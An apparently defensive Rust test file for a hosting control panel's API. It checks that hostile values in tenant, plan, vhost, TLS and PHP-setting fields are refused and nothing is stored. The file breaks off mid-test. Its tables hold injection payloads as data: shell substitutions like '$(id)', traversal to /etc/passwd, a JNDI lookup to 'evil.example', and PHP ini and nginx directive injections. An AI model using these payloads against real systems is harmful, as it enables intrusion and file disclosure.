//! Hostile input at every field: each is refused with 422 naming the field (400 for a body
//! that is not JSON, 413 too large, 415 not JSON at all), and nothing is stored, the audit
//! log included.
//!
//! The cases are tables: a row sends each of its values to one route, built into a body
//! the same way, and expects each to be refused the same way. One loop (`refuse_all`)
//! drives every row of a test, then the test checks that nothing changed.

use crate::harness::*;
use reqwest::Method;
use serde_json::{json, Value};

/// Values no name, domain, path or enumerated setting may accept: shell metacharacters,
/// line breaks, NUL, traversal, look-alikes and invisible characters, template and lookup
/// injections, empty, blank and overlong strings.
fn hostile() -> Vec<String> {
    let mut values: Vec<String> = [
        "a;id",
        "a|id",
        "a&id",
        "$(id)",
        "`id`",
        "a<b>c",
        "a>b",
        "a\r\nb",
        "a\nb",
        "a\rb",
        "a\0b",
        "..",
        "%2e%2e",
        "%2e%2e/x",
        "../../etc/passwd",
        "ex\u{0430}mple.com",                             // Cyrillic 'а'
        "\u{ff45}\u{ff58}\u{ff41}\u{ff4d}\u{ff50}le.com", // full-width "exam"p
        "\u{ff41}\u{ff44}\u{ff4d}\u{ff49}\u{ff4e}",       // full-width "admin"
        "exa\u{200b}mple.com",                            // zero-width space
        "\u{202e}moc.elpmaxe",                            // right-to-left override
        "a\u{feff}b",                                     // byte order mark
        "a\u{2028}b",                                     // line separator
        "",
        "   ",
        "\t",
        "-rf",
        "example.com.",
        "/etc/passwd",
        "~root",
        "a\\b",
        "a'b",
        "a\"b",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "a b",
        "*",
        "x.php\0.jpg",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    values.push("a".repeat(300));
    values.push(format!("{}.example.com", "a".repeat(300)));
    values
}

/// Passwords the rules refuse: short, with control characters, too long.
fn bad_passwords() -> Vec<String> {
    vec![
        String::new(),
        "short".into(),
        "123456789".into(),
        "abcde\0fghijk".into(),
        "abcdefghijk\n".into(),
        "abcde\r\nfghijk".into(),
        "\u{7f}abcdefghijk".into(),
        "x".repeat(257),
        "\u{e9}".repeat(257), // 257 characters, 514 bytes
    ]
}

/// Strings as JSON values.
fn strings<S: Into<String>>(values: impl IntoIterator<Item = S>) -> Vec<Value> {
    values
        .into_iter()
        .map(|s| Value::String(s.into()))
        .collect()
}

/// The PHP settings a tenant may change.
const PHP_KEYS: &[&str] = &[
    "memory_limit",
    "upload_max_filesize",
    "post_max_size",
    "max_execution_time",
    "max_input_time",
    "max_input_vars",
    "session.gc_maxlifetime",
    "display_errors",
    "short_open_tag",
    "allow_url_fopen",
    "date.timezone",
];

const GET: Method = Method::GET;
const PATCH: Method = Method::PATCH;
const POST: Method = Method::POST;

/// Who sends a row's requests.
#[derive(Clone, Copy, Debug)]
enum Who {
    Admin,
    /// The login of tenant `acme`, held to the same rules as the admin.
    Tenant,
    Anon,
}

/// What one request carries.
enum Send {
    Json(Value),
    /// This body as it is, with this content type (or none).
    Raw(Option<String>, Vec<u8>),
    /// Straight onto the socket with this framing header, past the client: a body the
    /// server must refuse before it has read it all.
    Wire(String, Vec<u8>),
    /// A GET with this query string.
    Query(String),
}

/// How a request must be refused.
#[derive(Clone, Debug)]
enum Expect {
    /// 422, a problem document with a detail whose errors name this field.
    Invalid(String),
    /// 422 naming one field only, `php.` and printable ASCII: a key that is no setting,
    /// echoed safely.
    NotASetting,
    /// 409, a problem document whose errors name this field: well-formed input the
    /// current state refuses.
    Conflict(String),
    /// This status, in a problem document that says it.
    Problem(u16),
    /// This status on the wire.
    Status(u16),
}

/// Who sends to which route.
#[derive(Clone)]
struct Route {
    who: Who,
    method: Method,
    path: &'static str,
}

fn at(who: Who, method: Method, path: &'static str) -> Route {
    Route { who, method, path }
}

/// One row of a table: each value, built into a request by `build`, sent to `route` and
/// refused as `expect` says.
struct Row {
    route: Route,
    values: Vec<Value>,
    build: Box<dyn Fn(&Value) -> Send>,
    expect: Expect,
}

impl Route {
    /// Each value, in the JSON body `body` makes of it, refused naming `field`.
    fn each(
        &self,
        field: &str,
        values: Vec<Value>,
        body: impl Fn(&Value) -> Value + 'static,
    ) -> Row {
        let expect = Expect::Invalid(field.to_owned());
        self.sends(expect, values, move |v| Send::Json(body(v)))
    }

    /// These whole JSON bodies, each refused naming `field`.
    fn bodies(&self, field: &str, bodies: Vec<Value>) -> Row {
        self.each(field, bodies, Value::clone)
    }

    /// These whole JSON bodies, well-formed, each refused by the current state (409)
    /// naming `field`.
    fn conflicting(&self, field: &str, bodies: Vec<Value>) -> Row {
        self.sends(Expect::Conflict(field.to_owned()), bodies, |v| {
            Send::Json(v.clone())
        })
    }

    /// Each value, built into a request by `build`, refused as `expect` says.
    fn sends(
        &self,
        expect: Expect,
        values: Vec<Value>,
        build: impl Fn(&Value) -> Send + 'static,
    ) -> Row {
        Row {
            route: self.clone(),
            values,
            build: Box::new(build),
            expect,
        }
    }

    /// One request, refused as `expect` says.
    fn send(&self, expect: Expect, request: impl Fn() -> Send + 'static) -> Row {
        self.sends(expect, vec![Value::Null], move |_| request())
    }
}

/// `base` with `key` set to `value`.
fn with(base: &Value, key: &str, value: Value) -> Value {
    let mut body = base.clone();
    body[key] = value;
    body
}

/// The test's instance: an admin, plan `basic`, reseller `resa`, tenant `acme` (with a
/// login) and its vhost `site.example.com`, and the clients that send the rows.
struct Fixture {
    app: App,
    admin: Api,
    admin_token: String,
    /// Signed in only by the tests that need it: each sign-in costs a password hash.
    tenant: Option<Api>,
}

async fn fixture() -> Fixture {
    let app = spawn_app().await;
    let admin_token = app.token(ADMIN, ADMIN_PASSWORD).await;
    let admin = app.api(&admin_token);
    create_plan(&admin, "basic", json!({})).await;
    create_reseller(&app, &admin, "resa", json!({"max_tenants": 5})).await;
    create_tenant(&admin, "acme", "basic", json!({"password": PASSWORD})).await;
    create_vhost(&admin, "acme", "site.example.com").await;
    Fixture {
        app,
        admin,
        admin_token,
        tenant: None,
    }
}

impl Fixture {
    async fn with_tenant_login(mut self) -> Self {
        self.tenant = Some(self.app.sign_in("acme", PASSWORD).await);
        self
    }

    fn api(&self, who: Who) -> Api {
        match who {
            Who::Admin => self.admin.clone(),
            Who::Tenant => self.tenant.clone().expect("the tenant's login"),
            Who::Anon => self.app.anon(),
        }
    }

    /// The one loop: sends every value of every row and checks each answer, then asserts
    /// that all were refused (listing those that were not) and that nothing was stored.
    async fn refuse_all(&self, what: &str, rows: Vec<Row>) {
        let before = snapshot(&self.app, &self.admin).await;
        let mut sent = 0;
        let mut failures = Vec::new();
        for row in &rows {
            let route = &row.route;
            for value in &row.values {
                let request = (row.build)(value);
                let label = format!(
                    "{:?} {} {} {}",
                    route.who,
                    route.method,
                    route.path,
                    describe(&request)
                );
                if let Err(why) = self.check(route, request, &row.expect).await {
                    failures.push(format!("{label}: {why}"));
                }
                sent += 1;
            }
        }
        let shown: Vec<&str> = failures.iter().take(20).map(String::as_str).collect();
        assert!(
            failures.is_empty(),
            "{what}: {} of {sent} requests not refused as expected:\n{}",
            failures.len(),
            shown.join("\n")
        );
        assert_unchanged(&before, &snapshot(&self.app, &self.admin).await, what);
        eprintln!("{what}: {sent} hostile requests refused");
    }

    async fn check(&self, route: &Route, request: Send, expect: &Expect) -> Result<(), String> {
        let api = self.api(route.who);
        let method = route.method.clone();
        let reply = match request {
            Send::Json(body) => api.send(method, route.path, Some(&body)).await,
            Send::Raw(content_type, bytes) => {
                api.send_raw(method, route.path, content_type.as_deref(), bytes)
                    .await
            }
            Send::Query(q) => api.send(GET, &format!("{}?{q}", route.path), None).await,
            Send::Wire(framing, bytes) => {
                let auth = match route.who {
                    Who::Admin => format!("Authorization: Bearer {}\r\n", self.admin_token),
                    Who::Anon => String::new(),
                    Who::Tenant => unreachable!("no row of the tenant's goes onto the wire"),
                };
                let head = format!(
                    "{method} /api/v1{} HTTP/1.1\r\n{auth}Content-Type: application/json\r\n{framing}",
                    route.path
                );
                let answer = raw_http(&self.app, &head, bytes).await;
                return match expect {
                    Expect::Status(status) if raw_status(&answer) == *status => Ok(()),
                    _ => Err(format!(
                        "expected {expect:?}, got {}",
                        answer.chars().take(600).collect::<String>()
                    )),
                };
            }
        };
        refusal(expect, &reply)
    }
}

/// A request, short enough to read in a failure.
fn describe(request: &Send) -> String {
    let text = match request {
        Send::Json(body) => body.to_string(),
        Send::Raw(ct, bytes) => format!("{ct:?} {:?}", String::from_utf8_lossy(bytes)),
        Send::Wire(framing, bytes) => format!("{framing:?} with {} bytes", bytes.len()),
        Send::Query(q) => format!("?{q}"),
    };
    text.chars().take(200).collect()
}

/// Whether the answer is the refusal `expect` asks for; what is wrong with it if not.
fn refusal(expect: &Expect, r: &Reply) -> Result<(), String> {
    let fields = error_fields(&r.json);
    let problem = r.content_type() == "application/problem+json";
    let ok = match expect {
        Expect::Invalid(field) => {
            r.status == 422
                && r.json["status"] == 422
                && fields.iter().any(|f| f == field)
                && problem
                && r.json["detail"].as_str().is_some_and(|d| !d.is_empty())
        }
        Expect::NotASetting => {
            r.status == 422
                && fields.len() == 1
                && fields[0].starts_with("php.")
                && fields[0].chars().all(|c| c.is_ascii_graphic())
        }
        Expect::Conflict(field) => r.status == 409 && fields.iter().any(|f| f == field) && problem,
        Expect::Problem(status) => r.status == *status && problem && r.json["status"] == *status,
        Expect::Status(status) => r.status == *status,
    };
    if ok {
        Ok(())
    } else {
        Err(format!("expected {expect:?}, got {} {}", r.status, r.text))
    }
}

#[tokio::test]
async fn hostile_tenant_fields_are_refused() {
    let f = fixture().await;
    let create = at(Who::Admin, POST, "/tenants");
    let update = at(Who::Admin, PATCH, "/tenants/acme");
    // Reserved words and names of this machine's own accounts, and names of the wrong
    // shape: a letter first, lowercase letters and digits, 2 to 31 characters.
    let mut names = strings([
        "root", "admin", "www", "lodge", "nobody", "daemon", "mysql", "test",
    ]);
    // One of this machine's accounts is a well-formed name the state refuses.
    let system_account = match system_account_name() {
        Some(name) => vec![json!({"name": name, "plan": "basic"})],
        None => {
            eprintln!("no unreserved system account found; skipping that case");
            vec![]
        }
    };
    names.extend(strings(["a", "1acme", "Acme", "ac-me", "ac_me"]));
    names.push(json!("a".repeat(32)));
    let rows = vec![
        create.each(
            "name",
            strings(hostile()),
            |v| json!({"name": v, "plan": "basic"}),
        ),
        create.each(
            "plan",
            strings(hostile()),
            |v| json!({"name": "fresh", "plan": v}),
        ),
        create.each(
            "owner",
            strings(hostile()),
            |v| json!({"name": "fresh", "plan": "basic", "owner": v}),
        ),
        create.each("name", names, |v| json!({"name": v, "plan": "basic"})),
        create.each(
            "password",
            strings(bad_passwords()),
            |v| json!({"name": "fresh", "plan": "basic", "password": v}),
        ),
        update.each(
            "password",
            strings(bad_passwords()),
            |v| json!({"password": v}),
        ),
        // Missing fields.
        create.bodies("name", vec![json!({"plan": "basic"})]),
        create.bodies("plan", vec![json!({"name": "fresh"})]),
        create.conflicting("name", system_account),
        // A plan that does not exist: well-formed, refused by the state.
        update.conflicting("plan", vec![json!({"plan": "nope"})]),
        create.conflicting("plan", vec![json!({"name": "fresh", "plan": "nope"})]),
    ];
    f.refuse_all("hostile tenant fields", rows).await;
    // Still usable afterwards: a clean request goes through.
    create_tenant(&f.admin, "fresh", "basic", json!({})).await;
}

/// Names lodge already refuses as reserved; `system_account_name` looks past them.
const LODGE_RESERVES: &str =
    "root daemon bin sys sync games man lp mail news uucp proxy backup list irc gnats \
     nobody adm tty disk kmem dialout cdrom floppy tape sudo audio video plugdev staff \
     users operator shadow utmp input render kvm netdev messagebus systemd sshd postgres \
     mysql";

/// A name of this machine's own users or groups that is not on lodge's reserved list but
/// has a tenant name's shape, if there is one.
fn system_account_name() -> Option<String> {
    let mut names = Vec::new();
    for file in ["/etc/passwd", "/etc/group"] {
        if let Ok(text) = std::fs::read_to_string(file) {
            names.extend(
                text.lines()
                    .filter_map(|l| l.split(':').next())
                    .map(str::to_owned),
            );
        }
    }
    names.into_iter().find(|n| {
        n.len() >= 2
            && n.len() <= 31
            && n.starts_with(|c: char| c.is_ascii_lowercase())
            && n.chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
            && !LODGE_RESERVES.split_whitespace().any(|r| r == n)
    })
}

#[tokio::test]
async fn hostile_plan_fields_are_refused() {
    let f = fixture().await;
    let create = at(Who::Admin, POST, "/plans");
    let update = at(Who::Admin, PATCH, "/plans/basic");
    let mut names = strings(["Pro", "pro-", "1pro", "pro_2"]);
    names.push(json!("p".repeat(41)));
    let mut rows = vec![
        create.each("name", strings(hostile()), |v| json!({"name": v})),
        create.each(
            "php.pm",
            strings(hostile()),
            |v| json!({"name": "pro", "php": {"pm": v}}),
        ),
        create.each(
            "php.disable_functions",
            strings(hostile()),
            |v| json!({"name": "pro", "php": {"disable_functions": ["exec", v]}}),
        ),
        create.each("name", names, |v| json!({"name": v})),
        create.bodies("name", vec![json!({})]),
        update.conflicting("name", vec![json!({"name": "renamed"})]),
    ];
    // Numbers outside their ranges, or not whole numbers at all. (An explicit null is
    // "keep the default", so it is no hostile value.)
    let numbers = [
        (
            "max_vhosts",
            vec![
                json!(-1),
                json!(100_001),
                json!("10"),
                json!(1.5),
                json!(1e30),
            ],
        ),
        ("disk_mb", vec![json!(-1), json!(100_000_001)]),
        ("memory_mb", vec![json!(63), json!(1_048_577)]),
        ("cpu_percent", vec![json!(0), json!(6401)]),
        (
            "max_processes",
            vec![
                json!(7),
                json!(100_001),
                json!(-9_223_372_036_854_775_807i64),
            ],
        ),
    ];
    for (field, values) in numbers {
        rows.push(create.each(
            field,
            values.clone(),
            move |v| json!({"name": "pro", field: v}),
        ));
        rows.push(update.each(field, values, move |v| json!({field: v})));
    }
    let php_numbers = [
        ("max_children", vec![json!(0), json!(1001), json!(-5)]),
        ("max_requests", vec![json!(-1), json!(1_000_001)]),
        ("memory_limit_mb", vec![json!(15), json!(16_385)]),
        ("upload_max_mb", vec![json!(0), json!(10_241)]),
        (
            "max_execution_time",
            vec![json!(0), json!(86_401), json!("60")],
        ),
    ];
    for (key, values) in php_numbers {
        let field = format!("php.{key}");
        rows.push(create.each(
            &field,
            values.clone(),
            move |v| json!({"name": "pro", "php": {key: v}}),
        ));
        rows.push(update.each(&field, values, move |v| json!({"php": {key: v}})));
    }
    f.refuse_all("hostile plan fields", rows).await;
    let plan = create_plan(
        &f.admin,
        "pro",
        json!({"max_vhosts": 0, "php": {"max_children": 1000}}),
    )
    .await;
    assert_eq!(plan["max_vhosts"], 0);
}

#[tokio::test]
async fn hostile_user_fields_are_refused() {
    let f = fixture().await;
    let create = at(Who::Admin, POST, "/users");
    let update = at(Who::Admin, PATCH, "/users/resa");
    let mut names = strings(["A", "a", "Admin", "1abc", "_abc", "-abc"]);
    names.push(json!("u".repeat(33)));
    let mut rows = vec![
        create.each("username", strings(hostile()), |v| {
            json!({"username": v, "password": PASSWORD, "role": "reseller"})
        }),
        create.each("role", strings(hostile()), |v| {
            json!({"username": "newbie", "password": PASSWORD, "role": v})
        }),
        create.each("username", names, |v| {
            json!({"username": v, "password": PASSWORD, "role": "reseller"})
        }),
        create.each("password", strings(bad_passwords()), |v| {
            json!({"username": "newbie", "password": v, "role": "reseller"})
        }),
        update.each("password", strings(bad_passwords()), |v| json!({"password": v})),
        // Limits belong to resellers only; a tenant login must be named after a tenant.
        create.bodies(
            "limits",
            vec![json!({"username": "newbie", "password": PASSWORD, "role": "admin", "limits": {"max_tenants": 1}})],
        ),
        create.conflicting(
            "username",
            vec![json!({"username": "nosuchtenant", "password": PASSWORD, "role": "tenant"})],
        ),
        create.bodies("username", vec![json!({})]),
    ];
    // Limits: negative, too large, not numbers, unknown.
    let limits = [
        ("max_tenants", vec![json!(-1), json!(1_000_001)]),
        ("max_vhosts", vec![json!(-100), json!("5")]),
        ("max_php_workers", vec![json!(-1), json!(2.5)]),
        ("max_sites", vec![json!(1)]),
    ];
    for (key, values) in limits {
        let field = format!("limits.{key}");
        rows.push(create.each(&field, values.clone(), move |v| {
            json!({"username": "newbie", "password": PASSWORD, "role": "reseller", "limits": {key: v}})
        }));
        rows.push(update.each(&field, values, move |v| json!({"limits": {key: v}})));
    }
    f.refuse_all("hostile user fields", rows).await;
}

#[tokio::test]
async fn hostile_token_names_are_refused() {
    let f = fixture().await;
    let mut names = strings([
        "",
        "   ",
        "a\nb",
        "a\0b",
        "\u{202e}x",
        "a\u{200b}b",
        "\u{ff41}",
    ]);
    names.push(json!("x".repeat(65)));
    let rows = vec![at(Who::Anon, POST, "/tokens").each(
        "name",
        names,
        |v| json!({"username": ADMIN, "password": ADMIN_PASSWORD, "name": v}),
    )];
    f.refuse_all("hostile token names", rows).await;
}

const CREATE_VHOST: &str = "/tenants/acme/vhosts";
const UPDATE_VHOST: &str = "/vhosts/site.example.com";

#[tokio::test]
async fn hostile_vhost_fields_are_refused() {
    let f = fixture().await;
    let create = at(Who::Admin, POST, CREATE_VHOST);
    let update = at(Who::Admin, PATCH, UPDATE_VHOST);
    let mut rows = vec![
        create.each("domain", strings(hostile()), |v| json!({"domain": v})),
        // The domain of an existing vhost cannot change, to anything.
        update.each("domain", strings(hostile()), |v| json!({"domain": v})),
    ];
    // A docroot may legitimately end in a dot ("example.com." is a directory name), and an
    // empty front controller means "none".
    let docroots = strings(
        hostile()
            .into_iter()
            .filter(|v| v != "example.com." && v != "-rf"),
    );
    let front_controllers = strings(hostile().into_iter().filter(|v| !v.is_empty()));
    for (route, base) in [
        (&create, json!({"domain": "new.example.com"})),
        (&update, json!({})),
    ] {
        // The body of `base` with `key` set to what `value_of` makes of each value.
        let set = |key: &'static str, value_of: fn(&Value) -> Value| {
            let base = base.clone();
            move |v: &Value| with(&base, key, value_of(v))
        };
        rows.extend([
            route.each(
                "aliases[0]",
                strings(hostile()),
                set("aliases", |v| json!([v])),
            ),
            route.each(
                "aliases[1]",
                strings(hostile()),
                set("aliases", |v| json!(["www.new.example.com", v])),
            ),
            route.each("docroot", docroots.clone(), set("docroot", Value::clone)),
            route.each(
                "front_controller",
                front_controllers.clone(),
                set("front_controller", Value::clone),
            ),
            route.each(
                "tls_mode",
                strings(hostile()),
                set("tls_mode", Value::clone),
            ),
            route.each(
                "redirect_www",
                strings(hostile()),
                set("redirect_www", Value::clone),
            ),
        ]);
    }
    // Paths that escape the tenant's home or land in lodge's own directories.
    let escaping = strings([
        "/",
        "/var/www",
        "a/../../b",
        "a/..",
        ".git",
        "a/.ssh",
        "./",
        "logs",
        "tmp/x",
        "sessions",
    ]);
    rows.push(update.each("docroot", escaping, |v| json!({"docroot": v})));
    let front_controllers = strings([
        "index.php",
        "/index.html",
        "/../x.php",
        "/a b.php",
        "/.hidden.php",
        "/x.php/../y.php",
    ]);
    rows.push(update.each(
        "front_controller",
        front_controllers,
        |v| json!({"front_controller": v}),
    ));
    // Domains of the wrong shape.
    let mut domains = strings([
        "localhost",
        "example",
        "1.2.3.4",
        "a..b.com",
        "-a.example.com",
        "a-.example.com",
        "a_b.example.com",
        "example.com:8080",
        "http://example.com",
        "user@example.com",
        "example.com/x",
        "example\u{3002}com",
    ]);
    domains.push(json!(format!("{}.com", "a".repeat(64))));
    domains.push(json!(format!("{}com", "a.".repeat(130))));
    rows.push(create.each("domain", domains, |v| json!({"domain": v})));
    // Wrong types, too many aliases.
    let many: Vec<String> = (0..33).map(|i| format!("a{i}.example.com")).collect();
    let new = |extra: Value| with(&extra, "domain", json!("new.example.com"));
    rows.extend([
        create.bodies("php", vec![new(json!({"php": "yes"}))]),
        create.bodies("aliases", vec![new(json!({"aliases": "x.example.com"}))]),
        create.bodies("redirect_https", vec![new(json!({"redirect_https": 1}))]),
        create.bodies("domain", vec![json!({"domain": ["new.example.com"]})]),
        create.bodies("aliases", vec![new(json!({"aliases": many}))]),
        // An alias equal to the domain, or listed twice: a name already served, by this
        // vhost.
        create.conflicting(
            "aliases[0]",
            vec![new(json!({"aliases": ["NEW.example.com"]}))],
        ),
        create.conflicting(
            "aliases[1]",
            vec![new(json!({"aliases": ["a.example.com", "a.example.com"]}))],
        ),
        // HTTPS redirects need TLS: malformed in a new vhost, a conflict with a stored one.
        create.bodies("redirect_https", vec![new(json!({"redirect_https": true}))]),
        update.conflicting("redirect_https", vec![json!({"redirect_https": true})]),
    ]);
    f.refuse_all("hostile vhost fields", rows).await;
}

/// A real pair for the vhosts these tests upload to.
static PAIR: std::sync::LazyLock<(String, String)> =
    std::sync::LazyLock::new(|| test_certificate(&["site.example.com", "new.example.com"]));

#[tokio::test]
async fn hostile_tls_material_is_refused() {
    let (pem_cert, pem_key) = (PAIR.0.as_str(), PAIR.1.as_str());
    let f = fixture().await;
    let create = at(Who::Admin, POST, CREATE_VHOST);
    let update = at(Who::Admin, PATCH, UPDATE_VHOST);
    let certs = strings([
        "hello".to_owned(),
        "   ".to_owned(),
        "-----BEGIN CERTIFICATE-----\n$(id)\n-----END CERTIFICATE-----".to_owned(),
        "-----BEGIN CERTIFICATE-----\nAAAA\n".to_owned(),
        "-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----".to_owned(),
        format!("{pem_cert}ssl_certificate_key /etc/shadow;"),
        format!("include /etc/nginx/evil.conf;\n{pem_cert}"),
        pem_key.to_owned(),
        pem_cert.replace("MIIB", "MI B"),
        pem_cert.replace("MIIB", "MI\0B"),
        format!(
            "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----",
            "A".repeat(77)
        ),
        format!(
            "-----BEGIN CERTIFICATE-----\n{}-----END CERTIFICATE-----",
            "AAAA\n".repeat(14_000)
        ),
    ]);
    let keys = strings([
        "hello".to_owned(),
        pem_cert.to_owned(),
        format!("{pem_key}{pem_key}"),
        pem_key.replace("-----END PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"),
        pem_key.replace("MIGH", "MI;H"),
        format!("{pem_key}\n`id`"),
    ]);
    let rows = vec![
        update.each(
            "tls_certificate",
            certs,
            move |v| json!({"tls_mode": "custom", "tls_certificate": v, "tls_key": pem_key}),
        ),
        update.each(
            "tls_key",
            keys,
            move |v| json!({"tls_mode": "custom", "tls_certificate": pem_cert, "tls_key": v}),
        ),
        // Custom TLS needs both: malformed in a new vhost, a conflict with a stored one
        // that has neither.
        create.bodies(
            "tls_certificate",
            vec![json!({"domain": "new.example.com", "tls_mode": "custom", "tls_key": pem_key})],
        ),
        update.conflicting(
            "tls_certificate",
            vec![json!({"tls_mode": "custom", "tls_key": pem_key})],
        ),
        update.conflicting(
            "tls_key",
            vec![json!({"tls_mode": "custom", "tls_certificate": pem_cert})],
        ),
    ];
    f.refuse_all("hostile TLS material", rows).await;
    // The well-formed pair is accepted, and the key is never shown.
    let r = f
        .admin
        .send(
            PATCH,
            UPDATE_VHOST,
            Some(&json!({"tls_mode": "custom", "tls_certificate": pem_cert, "tls_key": pem_key, "redirect_https": true})),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.json["tls_has_key"], true);
    assert!(!r.text.contains("PRIVATE KEY"), "{}", r.text);
}

/// What lodge echoes of a client-supplied key: printable ASCII, other characters as '?'.
fn printable(key: &str) -> String {
    key.chars()
        .take(64)
        .map(|c| if c.is_ascii_graphic() { c } else { '?' })
        .collect()
}

/// Values a PHP setting never takes, whatever the setting: the hostile strings, ini
/// injections, numbers out of any range, and values that are not scalars.
fn hostile_php_values() -> Vec<Value> {
    let mut values = strings(hostile());
    values.extend([
        json!("256M\nextension=x.so"),
        json!("128M;extension=evil.so"),
        json!("On\nauto_prepend_file=/etc/passwd"),
        json!("1\r\nopen_basedir=/"),
        json!("-1"),
        json!("0x10"),
        json!("4294967296"),
        json!("99999999999"),
        json!(-1),
        json!(1.5),
        json!(1e12),
        json!(-99_999_999_999i64),
        json!([]),
        json!({}),
        json!(["128M"]),
    ]);
    values
}

/// Values of `key` below the floor or outside what any plan allows: malformed.
fn out_of_range(key: &str) -> Vec<Value> {
    match key {
        "memory_limit" => vec![json!("15M"), json!(0)],
        "upload_max_filesize" | "post_max_size" => vec![json!("0M")],
        "max_execution_time" | "max_input_time" => vec![json!(0)],
        "max_input_vars" => vec![json!(99), json!(100_001)],
        "session.gc_maxlifetime" => vec![json!(59), json!(2_592_001)],
        "date.timezone" => vec![json!("Europe/../Berlin"), json!("Europe/Berlin\n")],
        _ => vec![json!("yes"), json!(2), json!("enabled")],
    }
}

/// Values of `key` above this tenant's plan (256M memory, 64M uploads, 60 s), or a time
/// zone this machine does not know: well-formed, refused by the state.
fn refused_here(key: &str) -> Vec<Value> {
    match key {
        "memory_limit" => vec![json!("257M"), json!("1G")],
        "upload_max_filesize" | "post_max_size" => vec![json!("65M"), json!("1G")],
        "max_execution_time" | "max_input_time" => vec![json!(61), json!("3600")],
        "date.timezone" => vec![json!("Mars/Olympus")],
        _ => vec![],
    }
}

/// Keys outside the whitelist, however they are spelled.
const NOT_SETTINGS: &[&str] = &[
    "auto_prepend_file",
    "auto_append_file",
    "extension",
    "zend_extension",
    "open_basedir",
    "disable_functions",
    "sendmail_path",
    "error_log",
    "include_path",
    "memory_limit\nextension",
    "memory_limit ",
    " memory_limit",
    "MEMORY_LIMIT",
    "php_admin_value[memory_limit]",
    "memory_limit]\nphp_admin_value[open_basedir",
    "",
    "a\0b",
];

#[tokio::test]
async fn hostile_php_settings_are_refused() {
    // A tenant login may change these too; its requests are held to the same rules.
    let f = fixture().await.with_tenant_login().await;
    let by_tenant = at(Who::Tenant, PATCH, "/tenants/acme");
    let by_admin = at(Who::Admin, PATCH, "/tenants/acme");
    let create = at(Who::Admin, POST, "/tenants");
    let mut rows = Vec::new();
    for key in PHP_KEYS {
        let mut values = hostile_php_values();
        values.extend(out_of_range(key));
        rows.push(by_tenant.each(
            &format!("php.{key}"),
            values,
            move |v| json!({"php": {*key: v}}),
        ));
        let bodies = refused_here(key)
            .into_iter()
            .map(|v| json!({"php": {*key: v}}))
            .collect();
        rows.push(by_tenant.conflicting(&format!("php.{key}"), bodies));
    }
    let keyed = |v: &Value| json!({"php": {v.as_str().unwrap(): "1"}});
    for route in [&by_admin, &by_tenant] {
        rows.push(route.sends(
            Expect::NotASetting,
            strings(NOT_SETTINGS.iter().copied()),
            move |v| Send::Json(keyed(v)),
        ));
    }
    for key in NOT_SETTINGS {
        rows.push(create.each(
            &format!("php.{}", printable(key)),
            strings([*key]),
            |v| json!({"name": "fresh", "plan": "basic", "php": {v.as_str().unwrap(): "1"}}),
        ));
    }
    // More keys than there are settings, or not a map at all.
    let many: serde_json::Map<String, Value> =
        (0..40).map(|i| (format!("k{i}"), json!("1"))).collect();
    rows.push(by_admin.bodies(
        "php",
        vec![json!({"php": many}), json!({"php": "memory_limit=1G"})],
    ));
    // A bad value among good ones changes nothing at all.
    rows.push(by_tenant.bodies(
        "php.display_errors",
        vec![json!({"php": {"memory_limit": "128M", "display_errors": "maybe"}})],
    ));
    // Hostile values in a new tenant's settings too.
    let values = strings(["256M\nextension=x.so", "$(id)", "-1"]);
    rows.push(create.each(
        "php.memory_limit",
        values,
        |v| json!({"name": "fresh", "plan": "basic", "php": {"memory_limit": v}}),
    ));
    f.refuse_all("hostile PHP settings", rows).await;
    let (_, acme) = f.admin.get("/tenants/acme").await;
    assert_eq!(acme["php"], json!({}));
}

/// A JSON body of more than the 256 KiB the API reads.
fn oversized() -> Send {
    let big = serde_json::to_vec(&json!({"name": "a".repeat(300 * 1024)})).unwrap();
    Send::Wire(format!("Content-Length: {}", big.len()), big)
}

/// A value's text as the whole body, sent as JSON.
fn json_text(text: &Value) -> Send {
    let bytes = text.as_str().unwrap().as_bytes().to_vec();
    Send::Raw(Some("application/json".into()), bytes)
}

/// Bodies that are too large, not JSON, of the wrong content type or with unknown fields;
/// query strings out of range.
#[tokio::test]
async fn malformed_bodies_are_refused() {
    let f = fixture().await;
    use Who::{Admin, Anon};
    let mut rows = Vec::new();
    // No Content-Type at all, and types that are not JSON.
    let content_types = vec![
        Value::Null,
        json!("text/plain"),
        json!("application/x-www-form-urlencoded"),
        json!("application/jsonx"),
        json!("multipart/form-data; boundary=x"),
    ];
    for (method, path) in [
        (POST, "/tenants"),
        (PATCH, "/tenants/acme"),
        (POST, CREATE_VHOST),
        (PATCH, UPDATE_VHOST),
        (POST, "/plans"),
        (POST, "/users"),
        (PATCH, "/users/resa"),
    ] {
        let route = at(Admin, method, path);
        rows.push(route.send(Expect::Status(413), oversized));
        rows.push(
            route.sends(Expect::Problem(415), content_types.clone(), |ct| {
                let body = br#"{"name":"fresh","plan":"basic"}"#.to_vec();
                Send::Raw(ct.as_str().map(str::to_owned), body)
            }),
        );
        // (Syntax errors before any key: an unknown key is reported as soon as it is read.)
        let syntax = strings([
            "not json",
            "{",
            "",
            "{,}",
            "{1:2}",
            "{'a': 1}",
            "\u{feff}{}",
        ]);
        rows.push(route.sends(Expect::Problem(400), syntax, json_text));
        let not_objects = strings(["[]", "null", "42", "\"x\""]);
        rows.push(route.sends(Expect::Invalid("body".into()), not_objects, json_text));
    }
    // The token endpoint too, before any password is checked.
    let tokens = at(Anon, POST, "/tokens");
    rows.push(tokens.send(Expect::Problem(415), || {
        Send::Raw(Some("text/plain".into()), b"username=admin".to_vec())
    }));
    rows.push(tokens.send(Expect::Status(413), oversized));

    // Unknown fields are named, at the top level and inside objects.
    let newbie = json!({"username": "newbie", "password": PASSWORD, "role": "reseller"});
    let unknown = [
        (
            at(Admin, POST, "/tenants"),
            "uid",
            json!({"name": "fresh", "plan": "basic", "uid": 0}),
        ),
        (
            at(Admin, POST, "/tenants"),
            "state",
            json!({"name": "fresh", "plan": "basic", "state": "active"}),
        ),
        (
            at(Admin, PATCH, "/tenants/acme"),
            "name",
            json!({"name": "renamed"}),
        ),
        (
            at(Admin, POST, CREATE_VHOST),
            "tls_key_path",
